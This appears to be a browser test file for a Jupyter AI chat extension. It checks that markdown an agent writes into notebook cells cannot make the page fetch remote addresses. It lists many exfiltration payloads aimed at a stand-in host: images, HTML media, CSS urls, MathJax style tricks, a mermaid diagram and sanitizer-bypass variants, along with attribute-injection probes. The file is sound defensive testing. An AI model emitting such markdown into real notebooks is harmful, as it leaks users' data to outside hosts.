"""Markdown that agents put into a notebook loads nothing from elsewhere: an address can carry away what was read."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import count
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st
from playwright.sync_api import Page, Route, expect

from tests.browser.asking import calling, expect_end, in_mode, ready, tool_results
from tests.browser.lab import SHOW_CHAT, Chat, Notebook
from tests.fakes.provider import FakeProvider, Reply
from tests.plans.hostile import HARMLESS, LIVE, TEXTS, everywhere, sources
from whisperer_kernel.markdown import safe_markdown
from whisperer_kernel.plans.model import Plan

ADDRESS = "evil.example/p.png?d=secret"
# No two may ask for the same: what a page has it does not load again.
_numbers = count()
LOADING = {
    name: source.replace(ADDRESS, f"{ADDRESS}{next(_numbers)}")
    for name, source in {
        "a picture": f"![ ](https://{ADDRESS})",
        "a picture by reference": f"![x][y]\n\n[y]: https://{ADDRESS}",
        "a picture without a scheme": f"![x](//{ADDRESS})",
        "a picture in a table that looks like code": f"head\n:-\n`![x](https://{ADDRESS}) | `",
        "a picture in code that mathematics cut open": f"\\begin{{x}} ` \\end{{x}} ![x](https://{ADDRESS}) `",
        "a picture behind a carriage return": f"`a\r\r![x](https://{ADDRESS})\r\rb`",
        "an HTML picture": f"<img src='https://{ADDRESS}'>",
        "an HTML picture that only the sanitizer sees": f"<noembed><img src='https://{ADDRESS}'></noembed>",
        "a video": f"<video src='https://{ADDRESS}'></video>",
        "a video's picture": f"<video poster='https://{ADDRESS}'></video>",
        "a sound": f"<audio src='https://{ADDRESS}'></audio>",
        "a button": f"<input type=image src='https://{ADDRESS}'>",
        "a background": f"<div style='background-image: url(https://{ADDRESS})'>x</div>",
        "a list's mark": f"<ul style='list-style-image: url(https://{ADDRESS})'><li>x</ul>",
        "a cursor": f"<span style='cursor: url(https://{ADDRESS}), auto'>x</span>",
        "a picture in mathematics": f'$\\mmlToken{{mglyph}}[src="https://{ADDRESS}"]{{}}$',
        "a cursor in mathematics": f"$\\style{{cursor:url(https://{ADDRESS}),auto}}{{x}}$",
        "a command by another name": f"$\\def\\a{{\\style}}\\a{{cursor:url(https://{ADDRESS}),auto}}{{x}}$",
        "a command by another name, in two lines": (
            f"&#36;\\let\\q\\style<br>a \\q{{cursor:url(//{ADDRESS}),auto}}{{x}}&#36;"
        ),
        "an escaped command": f"&#36;&#92;style{{cursor:url(//{ADDRESS}),auto}}{{x}}&#36;",
        "mathematics in code": f'<code class="mathjax_process">$\\style{{cursor:url(https://{ADDRESS}),auto}}{{x}}$</code>',
        "a diagram": f"> ~~~ mermaid\n> graph TD; A[\"<img src='https://{ADDRESS}'>\"]-->B\n> ~~~",
    }.items()
}
# What the sanitizer takes away, or a browser may load one day.
REFUSED = {
    **LOADING,
    "a picture on this host, but not on this server": "<video poster='/user/mallory/p.png'></video>",
    "a button that runs all cells": "<button data-commandlinker-command='notebook:run-all-cells'>x</button>",
}
STAYING = [
    "![here](plot.png)",
    "![within](data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==)",
    "![attached](attachment:plot.png)",
    f"`![x](https://{ADDRESS})` and `<img src='https://{ADDRESS}'>`",
    f"```html\n<img src='https://{ADDRESS}'>\n```",
    f"[a link](https://{ADDRESS}) and <https://evil.example>",
    "$0 < x$ and $$\\frac{y}{2} > 1$$, `List[int]`, <b>bold</b>",
]
# Renders each source as a markdown cell is rendered, but without the sanitizer, and typesets it; gives its elements.
RENDER = """
    const registry = panel.content.rendermime;
    const made = [];
    for (const source of value) {
        const renderer = registry.createRenderer("text/markdown");
        panel.node.appendChild(renderer.node);
        const model = { data: { "text/markdown": source }, trusted: true, metadata: {}, setData: () => undefined };
        await renderer.renderModel(model);
        await registry.latexTypesetter.typeset(renderer.node);
        const elements = [...renderer.node.querySelectorAll("*:not(.jp-InternalAnchorLink)")];
        made.push(elements.map((element) => element.localName));
        renderer.node.remove();
        renderer.dispose();
    }
    return made;
"""
INSERT_AS_A_PERSON = """
    const at = panel.content.model.cells.length;
    panel.content.model.sharedModel.insertCell(at, {cell_type: 'markdown', source: value});
    panel.content.widgets[at].rendered = true;
    panel.content.activeCellIndex = at;
    await panel.content.scrollToItem(at);
"""


def watched(page: Page) -> list[str]:
    """Every address on another machine that the page asks for from now on, and does not get."""
    asked: list[str] = []

    def note(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    page.route(lambda url: urlsplit(url).hostname not in {"127.0.0.1", None}, note)
    return asked


@pytest.fixture
def elsewhere(notebook: Notebook) -> list[str]:
    """What the notebook's page asks other machines for."""
    return watched(notebook.page)


@pytest.fixture
def shared_elsewhere(shared_tab: Notebook) -> Iterator[list[str]]:
    """What the shared tab's page asks other machines for."""
    yield watched(shared_tab.page)
    shared_tab.page.unroute_all()


@pytest.fixture
def chat(notebook: Notebook) -> Chat:
    """A chat in which cells are put in without a question."""
    chat = ready(notebook)
    in_mode(chat, "edit")
    return chat


def shown_for_a_while(notebook: Notebook) -> None:
    """Give pictures the time to be asked for: as long as one of this server's takes that is asked for last."""
    notebook.do(
        "await new Promise((done) => {"
        " const picture = new Image(); picture.onload = picture.onerror = done; picture.src = '/favicon.ico'; });"
    )


def rendered(notebook: Notebook, markdown: list[str]) -> list[set[str]]:
    """What elements each source becomes."""
    made: list[list[str]] = notebook.do(RENDER, markdown)
    return [{*elements} for elements in made]


def assert_text(notebook: Notebook, plans: list[Plan]) -> None:
    """Nothing in these plans becomes more than text, code, headings and lists."""
    cells = [source for plan in plans for source in sources(plan)]
    for source, elements in zip(cells, rendered(notebook, cells), strict=True):
        assert elements <= HARMLESS, f"{elements - HARMLESS} of {source!r}"


@pytest.mark.parametrize(
    "markdown", ["![x](data:,x)", "<img src=x>", "<a href='//a.example'>x</a>", "www.a.example", "$x$"]
)
def test_plans_are_rendered_by_what_brings_them_to_life(shared_tab: Notebook, markdown: str) -> None:
    """What is not escaped becomes live, so that the tests of plans test something."""
    (elements,) = rendered(shared_tab, [markdown])
    assert elements - HARMLESS


def test_nothing_in_a_plan_comes_to_life(shared_tab: Notebook, shared_elsewhere: list[str]) -> None:
    """No picture, link, HTML, table, diagram or mathematics comes out of any field of a plan, and no request leaves."""
    assert_text(shared_tab, [everywhere(text) for text in [*LIVE, *LOADING.values()]])
    shown_for_a_while(shared_tab)
    assert shared_elsewhere == []


@given(st.lists(st.builds(everywhere, TEXTS, TEXTS, TEXTS), min_size=1, max_size=20))
@settings(max_examples=40, derandomize=True, deadline=None, suppress_health_check=list(HealthCheck))
def test_nothing_comes_to_life_of_anything(shared_tab: Notebook, plans: list[Plan]) -> None:
    """Nor of what nobody has thought of."""
    assert_text(shared_tab, plans)


@pytest.mark.parametrize("source", LOADING.values(), ids=LOADING)
@pytest.mark.usefixtures("shared_elsewhere")
def test_the_page_would_load_them(shared_tab: Notebook, source: str) -> None:
    """Typed by a person each of them asks another machine, so that the next test tests something."""
    with shared_tab.page.expect_request(lambda request: request.url.split("//")[1] in source):
        shared_tab.do(INSERT_AS_A_PERSON, source)


def test_nothing_that_was_said_loads(shared_tab: Notebook, shared_elsewhere: list[str]) -> None:
    """A reply as the notebook keeps it loads nothing, though its mathematics is typeset."""
    replies = [safe_markdown(source.replace("secret", "said")) for source in LOADING.values()]
    typeset, *_ = rendered(shared_tab, ["$x$", *replies])
    assert typeset - HARMLESS
    shown_for_a_while(shared_tab)
    assert shared_elsewhere == []


@pytest.mark.parametrize(
    "place",
    ['"https://a.example/@\\@{}@\\@"', 'https://a.example "@\\@{}@\\@"', "https://a.example/@@{}@@", "&#64;&#64;{}@@"],
)
def test_nothing_that_was_said_becomes_an_attribute(shared_tab: Notebook, place: str) -> None:
    """Not by mathematics either, which the renderer puts back wherever its number stands."""
    formula = '$" onpointermove="x()" $'
    said = safe_markdown("\n\n".join(f"{formula} and [here]({place.format(number)})" for number in range(3)))
    (attributes,) = shared_tab.do(RENDER.replace("element.localName", "[...element.getAttributeNames()]"), [said])
    assert "onpointermove" not in {name for names in attributes for name in names}


def test_mathematics_is_put_back_where_it_was_alone(shared_tab: Notebook) -> None:
    """In no link's title or address, whatever stands between two @ that their numbers would need."""
    between = [
        "",
        "\\",
        "\\\\\\",
        "\r",
        "\x00",
        "**",
        "~~",
        "``",
        "`",
        "[](x)",
        "\u2060",
        "&#8203;",
        "&shy;",
        "<b></b>",
        "\\\n",
    ]
    places = ['https://a.example/{0} "{0}"', "https://a.example/{0}"]
    marks = [f"@{one}@{number}@{one}@" for one in between for number in range(3)]
    links = [f"[here]({place.format(mark)}) https://a.example/{mark}" for mark in marks for place in places]
    said = safe_markdown("\n\n".join(["$secret$ $secret$ $secret$", *links]))
    look = "[element.title, element.getAttribute('href')].join()"
    raw = '$secret$\n\n[here](https://a.example/x "@\\@0@\\@") https://a.example/@@0@@'
    shown, live = shared_tab.do(RENDER.replace("element.localName", look), [said, raw])
    assert [words for words in shown if "secret" in words] == []
    assert [words for words in live if "secret" in words]


def test_no_request_leaves(notebook: Notebook, chat: Chat, provider: FakeProvider, elsewhere: list[str]) -> None:
    """None of them comes into the notebook, by insertion or into a cell that is there; the model is told why."""
    target = notebook.do("return panel.content.model.sharedModel.insertCell(1, {cell_type: 'markdown'}).id")
    for source in REFUSED.values():
        cells = [{"type": "code", "source": "x = 1"}, {"type": "markdown", "source": source}]
        provider.script(
            Reply.tools(
                ("call-1", "insert_cells", {"cells": cells}),
                ("call-2", "replace_cell", {"cell_id": target, "source": source}),
            ),
            Reply.answer("All done."),
        )
        chat.ask("Insert it.")
        expect_end(chat)
        for result in tool_results(provider)[-2:]:
            assert "Nothing changed: shown, the markdown would load" in result
    assert notebook.sources == [SHOW_CHAT, ""]
    shown_for_a_while(notebook)
    assert elsewhere == []


def test_yes_for_the_session_is_no_yes_to_load(
    notebook: Notebook, provider: FakeProvider, elsewhere: list[str]
) -> None:
    """Where nobody is asked any more, what loads is refused all the same."""
    chat = ready(notebook)
    calling(provider, "insert_cells", {"cells": [{"type": "markdown", "source": "Harmless."}]})
    chat.ask("Insert it.")
    chat.permission.get_by_role("button", name="Allow for this session").click()
    expect_end(chat)
    calling(
        provider, "insert_cells", {"cells": [{"type": "markdown", "source": LOADING["a picture"]}]}, then="Refused."
    )
    chat.ask("And a picture.")
    expect_end(chat, "Refused.")
    assert "Leave that out or link to it" in tool_results(provider)[-1]
    assert notebook.sources == [SHOW_CHAT, "Harmless."]
    assert elsewhere == []


def test_what_stays_here_is_put_in(
    notebook: Notebook, chat: Chat, provider: FakeProvider, elsewhere: list[str]
) -> None:
    """Pictures of the notebook's own server, links, code and mathematics are put in and shown."""
    calling(provider, "insert_cells", {"cells": [{"type": "markdown", "source": source} for source in STAYING]})
    chat.ask("Insert it.")
    expect_end(chat)
    assert notebook.sources == [SHOW_CHAT, *STAYING]
    expect(notebook.page.get_by_role("img", name="here")).to_have_count(1)
    shown_for_a_while(notebook)
    assert elsewhere == []


@pytest.mark.parametrize("does", ["Insert below", "Replace cell"])
def test_the_chats_buttons_refuse_it_too(
    notebook: Notebook, chat: Chat, provider: FakeProvider, elsewhere: list[str], does: str
) -> None:
    """Markdown that a model wrote into the chat is no cell at one click either, and the button says why."""
    notebook.do(INSERT_AS_A_PERSON, "Mine.")
    provider.script(Reply.answer(f"Like this:\n\n```markdown\n{LOADING['a picture']}\n```\n"))
    chat.ask("Show me.")
    expect_end(chat, "Like this")
    button = chat.region.locator(".whisperer-use", has_text=does)
    button.click()
    expect(chat.region.locator(".whisperer-use", has_text=f"would load https://{ADDRESS}")).to_be_visible()
    assert notebook.sources == [SHOW_CHAT, "Mine."]
    assert elsewhere == []
